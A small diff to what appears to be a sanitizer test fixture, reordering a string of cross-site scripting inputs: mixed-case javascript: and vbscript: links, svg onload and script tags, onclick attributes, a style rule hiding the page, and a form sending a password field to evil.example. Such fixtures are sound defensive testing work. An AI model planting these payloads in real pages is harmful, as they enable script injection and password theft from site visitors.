@@ -111,10 +111,10 @@ and <a href="JaVaScRiPt:alert(2)" onclick="steal()">mixed case</a>.
 
 <svg onload="alert(3)"><script>alert(4)</script></svg>
 
-<p>unclosed <a href="vbscript:msgbox(1)">vb
-
 [attr](https://example.org){onclick="alert(5)"}
 
 <style>body { display: none }</style>
 <form action="https://evil.example"><input name="pw"></form>
+
+<p>unclosed <a href="vbscript:msgbox(1)">vb
 """
